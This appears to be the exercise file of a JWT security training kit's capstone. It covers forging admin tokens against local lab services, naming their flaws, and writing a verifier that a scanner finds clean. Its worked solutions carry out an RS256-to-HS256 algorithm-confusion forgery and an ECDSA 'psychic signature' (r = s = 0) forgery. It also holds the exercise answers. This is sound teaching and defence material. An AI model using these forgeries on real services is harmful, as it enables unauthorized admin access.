"""Exercises for notebook 11: the capstone audit (break in by hand, name the flaws, defend)."""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

from labkit import capstone, keys
from labkit.algorithms import sign_token
from labkit.errors import LabkitError
from labkit.exercises import NOT_ATTEMPTED, Exercise, token_answer

__all__ = ["EXERCISES"]

_ISSUER, _AUDIENCE = "https://idp.labkit.local", "labkit-api"


def _breaks_into(name: str) -> Callable[[Any], str | None]:
    """A checker: Alice's token promoted to admin, accepted at service ``name``'s /api/admin."""

    def verify(answer: Any) -> str | None:
        forged = token_answer(answer, "forged token")
        if isinstance(forged, str):
            return forged
        if forged.payload.get("sub") != "alice" or forged.payload.get("role") != "admin":
            return "the claims should say sub 'alice' and role 'admin': promote Alice, not Bob"
        exp = forged.payload.get("exp")
        if isinstance(exp, (int, float)) and exp <= time.time():
            return "the token has expired: log in again with capstone.login and forge a fresh one"
        status, body = _admin_answer(capstone.preset_of(name), answer)
        if status != 200:
            return f"service {name} answered HTTP {status} {body}: it did not let the forgery in"
        return None

    return verify


def _admin_answer(preset: str, token: str) -> tuple[int, str]:
    """GET /api/admin with ``token`` on a fresh, in-process copy of ``preset``'s gateway."""
    from werkzeug.test import Client  # imported on use: checking other exercises needs no server

    from labkit.aws.server import create_lab

    lab = create_lab(preset)
    try:
        response = Client(lab.gateway).get("/api/admin", headers=capstone.bearer(token))
        return response.status_code, response.get_data(as_text=True)
    finally:
        lab.close()


def _flaw_names(answer: Any) -> str | None:
    from labkit.scan import FLAWS

    if not isinstance(answer, dict):
        kind = type(answer).__name__
        return f"give a dict such as {{'A': '...', 'B': '...', 'C': '...'}}, not {kind}"
    missing = [name for name in capstone.SERVICES if name not in answer]
    if missing:
        return f"name a flaw for service {', '.join(missing)} too"
    for name in capstone.SERVICES:
        preset = capstone.preset_of(name)
        given = answer[name]
        if given in (capstone.PRESET_FLAWS[preset], preset):
            continue
        if given not in FLAWS and given not in capstone.PRESET_FLAWS:
            return f"{given!r} is not a flaw id: pick one of labkit.scan.FLAWS"
        return f"service {name} does not have {given!r}: read its scan report's finding again"
    return None


def _clean_verifier(answer: Any) -> str | None:
    from labkit.scan import ScanError, scan

    if not callable(answer):
        return "pass your function itself (no parentheses)"
    token, expired = _service_b_tokens()
    try:
        claims = answer(token)
    except LabkitError as exc:
        return f"your verifier refused a valid token of service B: {exc}"
    if claims is None:
        return NOT_ATTEMPTED
    if not isinstance(claims, dict) or claims.get("sub") != "alice":
        return "return the verified claims (a dict), as labkit.verify does"
    jwks = keys.to_jwks([keys.demo_public_key("rsa")])
    try:
        report = scan(answer, token, public_key=jwks, expired_token=expired)
    except ScanError as exc:
        return f"the scan could not run: {exc}"
    if not report.clean:
        return f"the scanner still gets through: {', '.join(report.flaws)}"
    return None


def _service_b_tokens() -> tuple[str, str]:
    """A valid and an expired token as service B's identity provider signs them (DEMO ONLY key)."""
    now = int(time.time())
    key = keys.demo_private_key("rsa")
    kid = keys.thumbprint(keys.demo_public_key("rsa"))  # type: ignore[arg-type]
    claims = {
        "iss": _ISSUER,
        "aud": _AUDIENCE,
        "sub": "alice",
        "role": "reader",
        "scope": "profile",
        "iat": now,
        "exp": now + 900,
    }
    valid = sign_token(claims, key, "RS256", headers={"kid": kid})
    expired = sign_token(
        {**claims, "iat": now - 3600, "exp": now - 60}, key, "RS256", headers={"kid": kid}
    )
    return valid, expired


EXERCISES = (
    Exercise(
        id="11.1",
        title="Break into service B by hand",
        verify=_breaks_into("B"),
        hints=(
            "B signs RS256 and publishes its public key at /.well-known/jwks.json. Which attack "
            "of the kit needs nothing but a public key?",
            "confusion.forge_confusion(jwks, claims, header=...) gives one HS256 token per way of "
            "writing that key; send each to /api/admin and keep the one that gets HTTP 200.",
        ),
        solution="""\
b_token = alice_tokens["B"]
b_jwks = requests.get(f"{services['B'].url}/.well-known/jwks.json", timeout=5).json()
promoted = {**labkit.parse(b_token).payload, "role": "admin"}
candidates = confusion.forge_confusion(b_jwks, promoted, header=labkit.parse(b_token).header)
answer = next(
    forged.token
    for forged in candidates
    if requests.get(
        f"{services['B'].url}/api/admin", headers=capstone.bearer(forged.token), timeout=5
    ).status_code == 200
)""",
        starter="answer = ...",
        success="The public key was the HMAC secret: the header chose the algorithm.",
    ),
    Exercise(
        id="11.2",
        title="Break into service C by hand",
        verify=_breaks_into("C"),
        hints=(
            "C signs ES256. Which ECDSA bug of 2022 needs no key and no earlier signature at all?",
            "psychic.forge({**claims, 'role': 'admin'}, header=...) writes r = s = 0.",
        ),
        solution="""\
c_token = alice_tokens["C"]
promoted = {**labkit.parse(c_token).payload, "role": "admin"}
answer = psychic.forge(promoted, header=labkit.parse(c_token).header).token""",
        starter="answer = ...",
        success="64 zero bytes, and the service believed every word.",
    ),
    Exercise(
        id="11.3",
        title="Name the flaws",
        verify=_flaw_names,
        hints=(
            "Each scan report names its root cause: reports[name].flaws.",
            "Answer with ids of labkit.scan.FLAWS, one per service: {'A': ..., 'B': ..., ...}.",
        ),
        solution="""\
answer = {"A": "weak-hmac-secret", "B": "algorithm-confusion", "C": "psychic-signature"}""",
        starter="answer = ...",
        success="Three services, three root causes, and one fix for all of them: labkit.verify "
        "with fixed keys and algorithms.",
    ),
    Exercise(
        id="11.4",
        title="A verifier the scanner finds clean",
        verify=_clean_verifier,
        hints=(
            "labkit.verify with service B's published keys. Which algorithm, audience and issuer "
            "does a token of B carry? Read them off alice_tokens['B'].",
            "labkit.verify(token, b_jwks, algorithms=['RS256'], audience='labkit-api', "
            "issuer='https://idp.labkit.local')",
        ),
        solution="""\
b_jwks = requests.get(f"{services['B'].url}/.well-known/jwks.json", timeout=5).json()


def my_verifier(token: str) -> dict:
    return labkit.verify(
        token,
        b_jwks,  # keys from configuration (the IdP's JWKS), never from the token
        algorithms=["RS256"],  # the one algorithm the IdP signs with
        audience="labkit-api",
        issuer="https://idp.labkit.local",
    )


answer = my_verifier""",
        starter="""\
def my_verifier(token: str) -> dict:
    ...  # your code here: return the claims, or raise a labkit.InvalidTokenError


answer = my_verifier""",
        success="Every probe of the scanner refused, the expired token included: ship it.",
    ),
)
